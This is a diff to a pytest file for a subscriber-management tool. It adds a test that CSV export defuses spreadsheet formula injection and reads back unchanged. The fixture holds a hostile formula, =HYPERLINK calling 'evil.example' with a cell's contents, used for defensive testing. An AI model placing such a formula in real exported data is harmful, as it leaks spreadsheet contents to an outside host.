@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
@@ -9,10 +10,10 @@ import pytest
 from sqlalchemy import func, select
 
 from distributor.config import Settings
-from distributor.db import session_scope
+from distributor.db import session_scope, upgrade
 from distributor.errors import ImportRejected, SubscriberInputError
 from distributor.models import Subscriber, SubscriberStatus
-from distributor.subscribers import export_csv, import_csv, unsubscribe
+from distributor.subscribers import add_subscriber, export_csv, import_csv, unsubscribe
 from tests.helpers import add_topics
 
 GOOD = (
@@ -105,3 +106,30 @@ def test_export_round_trips(settings: Settings, tmp_path: Path) -> None:
     text = buf.getvalue()
     assert text.splitlines()[0].startswith("email,name,language,topics,status")
     assert "bob@example.org,Bob,fr,climate;science,confirmed" in text
+
+
+def test_an_export_defuses_formulas_and_reads_back_the_same(
+    sqlite_settings: Settings, tmp_path: Path
+) -> None:
+    add_topics(sqlite_settings, "climate")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with session_scope(sqlite_settings) as session:
+        add_subscriber(
+            session, sqlite_settings, email="-dash@example.com", name=hostile, language="en",
+            topics=["climate"], confirmed=True, consent_source="form",
+        )  # fmt: skip
+    buf = io.StringIO()
+    with session_scope(sqlite_settings) as session:
+        export_csv(session, buf)
+    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert row["email"] == "'-dash@example.com" and row["name"] == "'" + hostile
+    path = tmp_path / "export.csv"
+    path.write_text(buf.getvalue())
+    other = sqlite_settings.model_copy(update={"data_dir": tmp_path / "other"})
+    upgrade(other)
+    add_topics(other, "climate")
+    with session_scope(other) as session, path.open() as stream:
+        import_csv(session, other, stream, "export.csv", confirmed=True, consent_source="export")
+    with session_scope(other) as session:
+        sub = session.scalars(select(Subscriber)).one()
+        assert (sub.email, sub.name) == ("-dash@example.com", hostile)
